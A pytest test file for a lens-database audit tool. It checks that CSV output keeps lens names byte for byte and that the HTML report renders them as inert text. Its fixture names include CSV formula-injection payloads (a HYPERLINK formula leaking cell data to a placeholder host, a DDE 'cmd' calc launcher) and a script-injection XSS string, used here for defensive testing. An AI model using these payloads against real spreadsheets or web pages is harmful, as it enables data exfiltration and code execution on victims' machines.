"""Text from the database in the outputs (docs/input.md, "Text from the database
in the outputs"): every CSV keeps a cell that begins with =, +, - or @ byte
for byte, as RFC 4180 quotes it and nothing more, and report.html shows such
names, and <script>, as text only."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from lxml import html as lxml_html

from lensaudit.cli import main
from lensaudit.report import audit, write_report

NAMES = [
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+1 lens, with a comma",
    "-2 pancake",
    "@SUM(A1:A9)",
    "<script>document.body.setAttribute('data-pwned','1')</script>",
    '=cmd|" /C calc"!A0',
]
DOCS = Path(__file__).resolve().parent.parent / "docs" / "input.md"


def escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


@pytest.fixture(scope="module")
def database(tmp_path_factory):
    root = tmp_path_factory.mktemp("formulas")
    lenses = "".join(
        f"""    <lens>
        <maker>{escaped(name)}</maker>
        <model>{escaped(name)}</model>
        <mount>M</mount>
        <cropfactor>1.5</cropfactor>
        <calibration>
            <distortion model="ptlens" focal="{11 + i}" a="-0.024" b="-0.002" c="0.005"/>
        </calibration>
    </lens>
"""
        for i, name in enumerate(NAMES)
    )
    (root / "db").mkdir()
    (root / "db" / "odd.xml").write_text(
        f'<lensdatabase version="2">\n{lenses}</lensdatabase>\n', encoding="utf-8"
    )
    return root / "db"


def csv_lenses(text: str) -> list[str]:
    return [row["lens"] for row in csv.DictReader(io.StringIO(text))]


def test_scan_and_fix_csv_keep_the_names_byte_for_byte(database):
    for command in (["scan", "--format", "csv"], ["fix", "-f", "csv"]):
        result = CliRunner().invoke(main, [*command, str(database)])
        assert result.exit_code == 0, result.output
        assert csv_lenses(result.output) == NAMES, command
        makers = [row["maker"] for row in csv.DictReader(io.StringIO(result.output))]
        assert makers == NAMES
        # Quoted only where RFC 4180 asks (a comma or a quote): nothing prefixed.
        for name in NAMES:
            field = '"' + name.replace('"', '""') + '"' if re.search(r'[,"]', name) else name
            assert f",{field}," in result.output, name


def test_report_csv_keeps_the_names_and_its_html_shows_them_as_text(database, tmp_path):
    out = tmp_path / "out"
    write_report(audit(database), out)
    for name in ("entries.csv", "folding.csv"):
        assert csv_lenses((out / name).read_text(encoding="utf-8")) == NAMES, name
    text = (out / "report.html").read_text(encoding="utf-8")
    page = lxml_html.fromstring(text)
    for name in NAMES:
        assert name not in text or not re.search(r"[<>&\"]", name), name
    # The page's own two scripts and nothing else; no element from a name.
    assert len(page.xpath("//script")) == 2
    assert not page.xpath("//*[@data-pwned]") and not page.xpath("//a[@href]")
    headings = [h.text_content() for h in page.xpath('//article[@class="fold"]/h3')]
    assert [h.rsplit(" at ", 1)[0] for h in headings] == NAMES
    data = json.loads(page.xpath('//script[@id="entries-data"]')[0].text)
    assert "<" not in page.xpath('//script[@id="entries-data"]')[0].text
    lens = [column[0] for column in data["columns"]].index("lens")
    assert [row[lens] for row in data["rows"]] == NAMES


def test_the_rule_is_documented_with_its_reason():
    text = " ".join(DOCS.read_text(encoding="utf-8").split())
    assert "## Text from the database in the outputs" in DOCS.read_text(encoding="utf-8")
    assert "keeps every text byte for byte" in text
    assert "the CSV is data for programs" in text
    assert "`=HYPERLINK(...)`" in text and "`<script>`" in text
